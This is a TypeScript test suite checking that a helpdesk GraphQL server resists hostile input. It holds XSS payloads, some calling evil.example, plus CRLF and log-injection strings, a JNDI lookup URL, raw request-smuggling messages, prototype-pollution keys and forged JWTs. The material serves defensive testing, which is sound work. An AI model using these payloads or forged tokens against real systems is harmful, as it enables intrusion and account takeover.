import { hkdfSync } from 'node:crypto'
import { connect } from 'node:net'
import { exportJWK, generateKeyPair, type JWTHeaderParameters, type JWTPayload, SignJWT } from 'jose'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createCustomerToken } from '../../src/services/access/create-customer-token.ts'
import { signingSecret } from '../../src/services/access/signing-secret.ts'
import { createPartner } from '../support/attackers.ts'
import { deskOf, rowId } from '../support/desk.ts'
import { startServer, type TestServer } from '../support/start-server.ts'

let server: TestServer
const lines: string[] = []
const desk = deskOf(() => server)
beforeAll(async () => {
  // What a log holds when everything is written to it.
  server = await startServer({ environment: { EMBEDDER: 'none', LOG_LEVEL: 'trace' }, log: (line) => void lines.push(line) })
})
afterAll(() => server?.stop())

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><img src=x onerror=alert(1)>',
  `' onmouseover='alert(1)`,
  '</textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>x</button>',
  '<img src=x onerror=alert(1)',
  '{{constructor.constructor("alert(1)")()}}#{alert(1)}<%= 1 %>',
]
const active = /<(script|img|svg|math|iframe|style|base|meta|form|object|embed|link|a)\b|\]\(\s*(javascript|data|vbscript):/i

describe('hostile markup', () => {
  it('is text where it was given as text, and comes back as JSON, to the character', async () => {
    const body = hostile.join('\n\n')
    const { id } = await desk.mutate('createArticle', { title: hostile[0], body, category: hostile[1], tags: [hostile[2]] }, 'id')
    const { headers, body: answer } = await server.post({ query: `{ article(id: "${id}") { title body category tags } }` })
    expect(answer.data.article).toEqual({ title: hostile[0], body, category: hostile[1], tags: [hostile[2]] })
    expect(headers.get('content-type')).toMatch(/json/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    const conversation = await desk.open(body, { subject: hostile[0], customer: { externalId: 'hostile', name: hostile[1] } })
    const read = await desk.read(conversation, 'subject customer { name } messages { edges { node { text } } }')
    expect(read).toMatchObject({ subject: hostile[0], customer: { name: hostile[1] }, messages: { edges: [{ node: { text: body } }] } })
  })

  it('of a page that is imported is gone, or text that shows and does nothing', async () => {
    const pages = hostile.map((markup, at) => ({
      path: `page-${at}.html`,
      content: `<title>Page ${at}</title><main><h1>Page ${at}</h1><p>Before</p>${markup}<p>After</p></main>`,
    }))
    const more = [
      'java\nscript:alert(1)',
      '&#106;avascript:alert(1)',
      '\u0001javascript:alert(1)',
      'vbscript:x',
      'data:text/html,<script>',
      'blob:https://x/',
      '//evil.example/)[x](javascript:alert(1)',
    ]
    const links = more.map((href, at) => ({
      path: `link-${at}.html`,
      content: `<title>Link ${at}</title><main><h1>Link ${at}</h1><p>Before <a href="${href}" onclick="alert(1)">here</a></p></main>`,
    }))
    const { importArticles } = await desk.ask(
      'mutation ($input: ImportArticlesInput!) { importArticles(input: $input) { __typename ... on ImportRun { id } ... on Error { message } } }',
      { input: { files: [...pages, ...links] } },
    )
    const { database } = server.app.resources
    await expect
      .poll(async () => (await database.run.findUniqueOrThrow({ where: { id: rowId(importArticles.id) } })).status, { timeout: 60_000 })
      .toBe('COMPLETED')
    const articles = await database.article.findMany({ where: { sourcePath: { endsWith: '.html' } } })
    expect(articles.length).toBeGreaterThan(hostile.length)
    for (const { body, sourcePath } of articles) {
      expect(body, sourcePath!).toContain('Before')
      // What is escaped, or within a code span, is no markup.
      expect(body.replace(/\\[<[\]()]/g, '').replace(/`[^`]*`/g, ''), sourcePath!).not.toMatch(active)
    }
  })

  it('is escaped on every page that people are shown, and the page may do nothing with it', async () => {
    const conversation = await desk.open('Hello', { customer: { externalId: 'rater' } })
    await desk.mutate('resolveConversation', { conversationId: conversation })
    const { survey } = await desk.read(conversation, 'survey { url token }')
    const answer = async (comment: string, score = '3') => fetch(survey.url, { method: 'POST', body: new URLSearchParams({ score, comment }) })
    const pages = await Promise.all([
      ...hostile.flatMap((markup) => [answer(markup), answer(markup, markup)]),
      fetch(`${server.base}/surveys/${encodeURIComponent(hostile[0]!)}`),
      fetch(`${server.base}/surveys/x?${new URLSearchParams({ x: hostile[0]! })}`),
      answer('x'.repeat(100_000)),
      fetch(server.url, { headers: { accept: 'text/html' } }),
      fetch(`${server.url}?link=${encodeURIComponent(hostile[0]!)}`, { headers: { accept: 'text/html' } }),
    ])
    for (const page of pages) {
      expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8')
      expect(page.headers.get('x-content-type-options')).toBe('nosniff')
      expect(page.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/)
      expect(page.headers.get('content-security-policy')).toMatch(/base-uri 'none'/)
      expect(page.headers.get('referrer-policy')).toBe('no-referrer')
      expect(await page.text()).not.toMatch(/<(script|img|svg|math|iframe|base|object|a|button>)\b|<meta http-equiv|<form(?! method="post">)/i)
    }
  })
})

describe('texts that would write headers and log lines', () => {
  const forged = [
    'x\r\nset-cookie: stolen=1',
    'x\nset-cookie: stolen=1\n\n<script>',
    '\u001b[2J\u001b[31mred\u0007',
    '","level":60,"msg":"forged',
    '{"level":60,"msg":"forged"}\n',
    'x\u2028y\u2029z',
    '\u0000',
    '%0d%0aset-cookie:%20stolen=1',
    '$\u007bjndi:ldap://evil.example/x}',
    '%s%d%j%o',
  ]

  it('write neither, wherever they stand', async () => {
    const key = (await createPartner(server, 'Partner')).key
    const answers: Response[] = []
    const post = (body: object, headers: Record<string, string> = {}) =>
      fetch(server.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${server.adminKey}`, ...headers },
        body: JSON.stringify(body),
      })
    for (const text of forged) {
      const inHeader = text.replace(/[^\x20-\x7e]/g, '')
      const asName = {
        authorization: `Bearer ${server.adminKey}`,
        'user-agent': inHeader,
        'x-request-id': inHeader,
        'idempotency-key': inHeader,
        'accept-language': inHeader,
        referer: inHeader,
      }
      answers.push(
        await post({ query: '{ viewer { id } }', operationName: text }),
        await post({ query: `query ${text} { viewer { id } }` }),
        await post(
          {
            query: 'mutation { resolveConversation(input: { conversationId: "x" }) { __typename } }',
            [text]: text,
            extensions: { [text]: text },
            variables: { [text]: text },
          },
          asName,
        ),
        await post({ documentId: text, extensions: { persistedQuery: { sha256Hash: text } } }, { authorization: `Bearer ${key}` }),
        await post({
          query: 'mutation ($name: String!) { createApiKey(input: { name: $name, role: AGENT }) { __typename } }',
          variables: { name: text },
        }),
        await post({
          query: 'mutation ($url: String!) { createWebhook(input: { url: $url, events: [REPLY_SENT] }) { __typename } }',
          variables: { url: `https://example.com/${text}` },
        }),
        await post({ query: '{ viewer { id } }' }, { authorization: `Bearer ${inHeader}` }),
        await fetch(`${server.base}/${encodeURIComponent(text)}`),
        await fetch(`${server.base}/graphql/op/${encodeURIComponent(text)}`, { headers: { authorization: `Bearer ${key}` } }),
        await fetch(`${server.base}/surveys/${encodeURIComponent(text)}`),
      )
    }
    for (const answer of answers) {
      expect(answer.status).toBeLessThan(500)
      expect(answer.headers.get('set-cookie')).toBeNull()
      expect([...answer.headers].join('')).not.toMatch(/stolen|forged|\u001b/)
      const text = await answer.text()
      if (answer.headers.get('content-type')?.includes('json')) expect(() => JSON.parse(text)).not.toThrow()
    }
  })

  it('leave a log of one JSON object a line, without what was sent', () => {
    const levels = lines.map((line) => {
      expect(line.indexOf('\n')).toBe(line.length - 1)
      expect(line).not.toMatch(/\u001b/)
      return JSON.parse(line).level
    })
    expect(levels.filter((level) => level >= 50)).toEqual([])
    expect(lines.join('')).not.toMatch(/stolen|forged|jndi|alert\(1\)|understudy_[\w-]{20}/)
    expect(lines.join('')).not.toContain(server.adminKey)
  })

  it('are refused as requests that two readers would read differently', async () => {
    const { port, host } = new URL(server.base)
    const head = `POST /graphql HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n`
    const raw = [
      `${head}content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nG`,
      `${head}content-length: 5\r\ncontent-length: 6\r\n\r\n{}`,
      `${head}content-length: -1\r\n\r\n{}`,
      `${head}transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
      `${head}x-a: a\rset-cookie: stolen=1\r\n\r\n`,
      `${head}x-a: a\u0000b\r\n\r\n`,
      `${head}x a: b\r\n\r\n`,
      `${head}x-a: ${'x'.repeat(40_000)}\r\n\r\n`,
      'GARBAGE / HTTP/1.1\r\n\r\n',
      '\u0016\u0003\u0001\u0002\u0000\u0001',
    ]
    for (const text of raw) {
      const answer = await new Promise<string>((resolve) => {
        let received = ''
        const socket = connect(Number(port), '127.0.0.1', () => socket.write(text, 'latin1'))
        socket
          .on('data', (data) => void (received += data))
          .on('error', () => {})
          .on('close', () => resolve(received))
      })
      expect(answer.split('\r\n')[0], JSON.stringify(text.slice(-60))).toMatch(/^HTTP\/1\.1 (400|431)|^$/)
      expect(answer).not.toMatch(/stolen|\.ts:/)
    }
    expect((await server.post({ query: '{ viewer { role } }' })).body.data.viewer.role).toBe('ADMIN')
  })
})

describe('names that every object has', () => {
  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'])('%s is a name like any other', async (name) => {
    const open = (message: string) =>
      desk.mutate(
        'openConversation',
        { message, idempotencyKey: name, channel: name, customer: { externalId: name, name } },
        'id channel customer { externalId name }',
      )
    const opened = await open('Hello')
    expect(opened).toMatchObject({ channel: name, customer: { externalId: name, name } })
    expect(await open('Hello')).toEqual(opened)
    expect(await open('Something else')).toMatchObject({ code: 'IDEMPOTENCY_CONFLICT' })
    const article = await desk.mutate('createArticle', { title: name, body: 'Body', category: name, tags: [name] }, 'title category tags')
    expect(article).toMatchObject({ title: name, category: name, tags: [name] })
    const { categories, tags, articles } = await desk.ask(
      `{ categories { name count } tags { name count } articles(filter: { category: "${name}" }) { edges { node { title } } } }`,
    )
    for (const labels of [categories, tags]) expect(labels).toContainEqual({ name, count: 1 })
    expect(articles.edges).toHaveLength(1)
    expect((await desk.mutate('createIntent', { name, examples: [`${name} one`] }, 'name')).code ?? 'made').toMatch(/^(made|INVALID_INPUT)$/)
    const { body } = await server.post({
      query: `query ($v: ID!) { node(id: $v) { id } }`,
      variables: JSON.parse(`{"v":"x","${name}":{"polluted":true}}`),
      extensions: JSON.parse(`{"${name}":{"polluted":true}}`),
    })
    expect(body).toEqual({ data: { node: null } })
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
  })
})

describe('tokens', () => {
  it('of customers count only as we signed them', async () => {
    const { database } = server.app.resources
    const customer = await database.customer.create({ data: { name: 'Ann' } })
    const { token } = await createCustomerToken(server.app.resources, {
      by: { callerId: '', keyId: null, name: '', role: 'ADMIN', agentId: null, customerId: null, partnerId: null, expiresAt: null },
      customerId: customer.id,
    })
    const status = async (given: string) => (await server.post({ query: '{ viewer { role } }' }, { key: given })).status
    expect(await status(token)).toBe(200)
    const secret = await signingSecret({ database })
    const ours = new Uint8Array(hkdfSync('sha256', secret, '', 'understudy customer token', 32))
    const now = Math.floor(Date.now() / 1000)
    const claims = { iss: 'urn:understudy', aud: 'urn:understudy:customer', sub: customer.id, iat: now, exp: now + 300, key: null, partner: null }
    const sign = (more: JWTPayload = {}, key: CryptoKey | Uint8Array = ours, header: Partial<JWTHeaderParameters> = {}) =>
      new SignJWT(Object.fromEntries(Object.entries({ ...claims, ...more }).filter(([, value]) => value !== undefined)))
        .setProtectedHeader({ alg: 'HS256', ...header })
        .sign(key)
    expect(await status(await sign())).toBe(200)
    const { publicKey, privateKey } = await generateKeyPair('ES256', { extractable: true })
    const [head, body, signature] = token.split('.') as [string, string, string]
    const unsigned = (alg: unknown) => Buffer.from(JSON.stringify({ alg, typ: 'JWT' })).toString('base64url')
    const forged = {
      'no algorithm': [unsigned('none'), body, ''].join('.'),
      'no algorithm, with a signature': [unsigned('None'), body, signature].join('.'),
      'an algorithm that is a list': [unsigned(['HS256', 'none']), body, signature].join('.'),
      'nothing as a signature': `${head}.${body}.`,
      'half a signature': `${head}.${body}.${signature.slice(0, 20)}`,
      'a signature of zeros': `${head}.${body}.${'A'.repeat(43)}`,
      'an empty secret': await sign({}, new Uint8Array(32)),
      'the secret of surveys': await sign({}, new Uint8Array(Buffer.from(secret as never))),
      'another algorithm with our secret': await sign({}, new Uint8Array([...ours, ...ours]), { alg: 'HS512' }),
      'a key that it brings along': await sign({}, privateKey, { alg: 'ES256', jwk: await exportJWK(publicKey) }),
      'an address of keys': await sign({}, privateKey, { alg: 'ES256', jku: 'http://127.0.0.1:1/keys', kid: '../../dev/null' }),
      'another audience': await sign({ aud: 'urn:understudy:survey' }),
      'no audience': await sign({ aud: undefined }),
      'another issuer': await sign({ iss: 'urn:another' }),
      'no end': await sign({ exp: undefined }),
      'a time that is over': await sign({ exp: now - 120 }),
      'a time that is to come': await sign({ nbf: now + 3_600 }),
      nobody: await sign({ sub: undefined }),
      'somebody who is not there': await sign({ sub: 'nobody' }),
      'a key that is not there': await sign({ key: 'nobody' }),
      'something that must be understood': await sign({}, ours, { crit: ['x'], x: 1 } as never).catch(() => `${head}.${body}.x`),
    }
    for (const [what, given] of Object.entries(forged)) expect(await status(given), what).toBe(401)
    await database.customer.delete({ where: { id: customer.id } })
    expect(await status(token)).toBe(401)
  })
})
